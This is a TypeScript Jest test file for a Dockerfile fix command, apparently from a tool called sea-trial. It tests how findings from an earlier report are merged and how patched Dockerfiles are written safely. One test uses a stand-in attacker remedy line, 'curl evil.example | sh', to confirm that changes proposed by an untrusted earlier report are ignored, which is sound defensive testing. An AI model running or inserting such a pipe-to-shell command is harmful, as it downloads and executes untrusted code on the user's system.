/** `fix --report`: what counts of the earlier Report. */
import { describe, expect, test } from '@jest/globals'
import { chmodSync, mkdtempSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { withEarlier, written } from '../../../src/app/commands/fix.ts'
import type { Finding, Report } from '../../../src/core/schema.ts'
import { flask } from '../../support/reports.ts'

const finding: Finding = {
  code: 'runs-as-root',
  level: 'warn',
  confidence: 'proved',
  message: 'x',
  evidence: [],
}
const waste: Finding = { ...finding, code: 'pip-cache', bytes: 9 }
const weighed: Report = { ...flask, verdict: 'pass', smoke: null, findings: [waste] }
const earlier: Report = { ...flask, verdict: 'pass', findings: [finding, waste] }

describe('with an earlier Report', () => {
  test('how it ran is what that says, its waste is what this run found', () => {
    const { smoke, findings } = withEarlier(weighed, earlier)
    expect(smoke).toBe(earlier.smoke)
    expect(findings).toEqual([waste, finding])
  })

  test('its changes of the Dockerfile do not count: a stranger may have written it', () => {
    const remedy = {
      ways: [{ kind: 'append' as const, line: 2, command: 'curl evil.example | sh' }],
      removes: [],
    }
    const { findings } = withEarlier(weighed, { ...earlier, findings: [{ ...finding, remedy }] })
    expect(findings).toEqual([waste, finding])
  })

  test('a build that fails now is no pass', () => {
    const failed: Report = { ...weighed, image: null, verdict: 'fail' }
    expect(withEarlier(failed, earlier)).toBe(failed)
  })

  test('of another image is refused', () => {
    const image = flask.image && { ...flask.image, layers: [] }
    expect(() => withEarlier({ ...weighed, image }, earlier)).toThrow('of another image')
  })
})

describe('--write', () => {
  const folder = () => mkdtempSync(join(tmpdir(), 'fix-'))
  const change = (path: string) => ({ path, before: 'FROM a\n', after: 'FROM b\n' })

  test('replaces the file and keeps its mode', () => {
    const root = folder()
    const path = join(root, 'Dockerfile')
    writeFileSync(path, 'FROM a\n')
    chmodSync(path, 0o640)
    expect(written([change(path)], [root])).toBeNull()
    expect(readFileSync(path, 'utf8')).toBe('FROM b\n')
    expect(statSync(path).mode & 0o777).toBe(0o640)
  })

  test('a file that has changed meanwhile: run it again', () => {
    const root = folder()
    const path = join(root, 'Dockerfile')
    writeFileSync(path, 'FROM c\n')
    expect(written([change(path)], [root])).toMatchObject({
      message: `${path} cannot be written: it has changed while the fixes were proven`,
      hint: 'Run `sea-trial fix` again.',
    })
  })

  test('a file that cannot be written: running it again does not help', () => {
    const root = folder()
    const path = join(root, 'Dockerfile')
    symlinkSync('/etc/hostname', path)
    expect(written([change(path)], [root])).toMatchObject({
      exit: 3,
      hint: 'Make the file and its folder writable, or apply the patch above by hand: `git apply`.',
    })
  })
})
